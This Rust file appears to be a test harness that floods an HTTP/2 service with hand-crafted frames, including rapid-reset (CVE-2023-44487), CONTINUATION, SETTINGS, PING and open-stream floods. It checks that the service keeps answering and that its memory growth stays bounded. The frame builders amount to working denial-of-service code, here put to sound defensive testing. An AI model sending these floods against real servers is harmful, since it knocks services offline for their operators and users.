//! Floods of HTTP/2: what a peer can send that costs it little. The frames are made here, since no client sends them.

use std::{
    fs,
    io::{Read, Write},
    net::{Shutdown, TcpStream},
    os::unix::net::UnixStream,
    sync::atomic::{AtomicUsize, Ordering},
    thread,
    time::Duration,
};

/// Types of frames (RFC 9113, 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// Flag of a frame: all headers are in it.
const END_HEADERS: u8 = 4;

/// Connections of an attacker.
const CONNECTIONS: usize = 4;
/// A server that takes nothing for so long has had enough.
const PATIENCE: Duration = Duration::from_secs(1);
/// Bytes by which the memory of a server may grow in all floods together.
const MEMORY: u64 = 64 << 20;

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Flood {
    /// Streams that are reset as soon as they are opened: CVE-2023-44487.
    Resets,
    /// Headers without an end.
    Continuations,
    /// Pieces of headers with nothing in them, without an end.
    EmptyContinuations,
    /// Settings, each of which wants an answer that nobody reads.
    Settings,
    /// Pings, of the same kind.
    Pings,
    /// Streams that stay open.
    Streams,
}

const FLOODS: [Flood; 6] =
    [Flood::Resets, Flood::Continuations, Flood::EmptyContinuations, Flood::Settings, Flood::Pings, Flood::Streams];

/// One connection of an attacker, to be read and to be written.
pub trait Victim: Read + Write + Send {
    /// The same connection once more.
    fn again(&self) -> Box<dyn Victim>;
    /// How long a write waits.
    fn set_patience(&self, time: Duration);
    /// Ends the connection, whoever else has it.
    fn hang_up(&self);
}

impl Victim for UnixStream {
    fn again(&self) -> Box<dyn Victim> {
        Box::new(self.try_clone().expect("a descriptor"))
    }

    fn set_patience(&self, time: Duration) {
        self.set_write_timeout(Some(time)).expect("a socket");
    }

    fn hang_up(&self) {
        // The server may have done so before.
        let _ = self.shutdown(Shutdown::Both);
    }
}

impl Victim for TcpStream {
    fn again(&self) -> Box<dyn Victim> {
        Box::new(self.try_clone().expect("a descriptor"))
    }

    fn set_patience(&self, time: Duration) {
        self.set_write_timeout(Some(time)).expect("a socket");
    }

    fn hang_up(&self) {
        // The server may have done so before.
        let _ = self.shutdown(Shutdown::Both);
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header as RFC 7541, 6.2.2 writes it plainly: no index, no table, no Huffman code.
fn header(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).expect("short")], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// What is asked for, again and again.
#[derive(Clone, Debug)]
pub struct Target {
    /// Method, such as POST.
    pub method: &'static str,
    /// Host, as the service knows itself.
    pub authority: String,
    /// Path.
    pub path: String,
}

impl Target {
    fn block(&self) -> Vec<u8> {
        let fields = [
            (":method", self.method),
            (":scheme", "http"),
            (":authority", &self.authority),
            (":path", &self.path),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ];
        fields.iter().flat_map(|(name, value)| header(name, value)).collect()
    }
}

impl Flood {
    /// What follows the preface, in pieces.
    fn pieces(self, target: &Target) -> Box<dyn Iterator<Item = Vec<u8>>> {
        let block = target.block();
        let stream = |number: u32| 2 * number + 1;
        match self {
            Self::Resets => Box::new((0..100_000).map(move |number| {
                let id = stream(number);
                [frame(HEADERS, END_HEADERS, id, &block), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
            })),
            Self::Continuations => {
                let more: Vec<u8> =
                    (0..120).flat_map(|number| header(&format!("x-{number}"), &"y".repeat(120))).collect();
                let first = frame(HEADERS, 0, 1, &block);
                Box::new(std::iter::once(first).chain((0..5000).map(move |_| frame(CONTINUATION, 0, 1, &more))))
            }
            Self::EmptyContinuations => {
                let first = frame(HEADERS, 0, 1, &block);
                Box::new(std::iter::once(first).chain((0..1000).map(|_| frame(CONTINUATION, 0, 1, &[]).repeat(1000))))
            }
            // The largest number of streams, then another one.
            Self::Settings => Box::new((0..1000).map(|number: u32| {
                let setting = [&[0, 3][..], &number.to_be_bytes()].concat();
                frame(SETTINGS, 0, 0, &setting).repeat(1000)
            })),
            Self::Pings => Box::new((0..1000).map(|_| frame(PING, 0, 0, b"8 bytes.").repeat(1000))),
            Self::Streams => {
                Box::new((0..20_000).map(move |number| frame(HEADERS, END_HEADERS, stream(number), &block)))
            }
        }
    }

    /// Says whether the attacker reads what comes.
    fn reads(self) -> bool {
        !matches!(self, Self::Settings | Self::Pings)
    }

    /// Sends all of it, or until the server hangs up or takes no more; the connection stays open.
    fn send(self, mut victim: Box<dyn Victim>, target: &Target) -> Box<dyn Victim> {
        victim.set_patience(PATIENCE);
        if self.reads() {
            let mut reader = victim.again();
            // It ends with the connection.
            thread::spawn(move || std::io::copy(&mut reader, &mut std::io::sink()));
        }
        let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat();
        let mut batch = preface;
        for piece in self.pieces(target) {
            batch.extend(piece);
            if batch.len() > 64 * 1024 && victim.write_all(&std::mem::take(&mut batch)).is_err() {
                return victim;
            }
        }
        let _ = victim.write_all(&batch);
        victim
    }
}

/// The most memory that a process has had, in bytes.
fn peak(pid: i32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).expect("the service lives");
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a process has memory");
    line.trim().trim_end_matches(" kB").parse::<u64>().expect("a number") * 1024
}

/// Floods a service in each way. `serve` asks it something as others do, and fails where it does not answer; it is
/// called all the time, and while the attacker's connections are still open.
pub fn endure(pid: i32, target: &Target, connect: impl Fn() -> Box<dyn Victim> + Sync, serve: impl Fn()) {
    serve();
    let before = peak(pid);
    for flood in FLOODS {
        let running = AtomicUsize::new(CONNECTIONS);
        let open = thread::scope(|scope| {
            let attack = || {
                let victim = flood.send(connect(), target);
                running.fetch_sub(1, Ordering::Relaxed);
                victim
            };
            let attackers: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(attack)).collect();
            while running.load(Ordering::Relaxed) > 0 && attackers.iter().any(|attacker| !attacker.is_finished()) {
                serve();
            }
            attackers.into_iter().map(|attacker| attacker.join().expect("a flood is only sent")).collect::<Vec<_>>()
        });
        serve();
        let grown = peak(pid).saturating_sub(before);
        assert!(grown < MEMORY, "{flood:?} took {} MiB", grown >> 20);
        open.iter().for_each(|victim| victim.hang_up());
    }
}
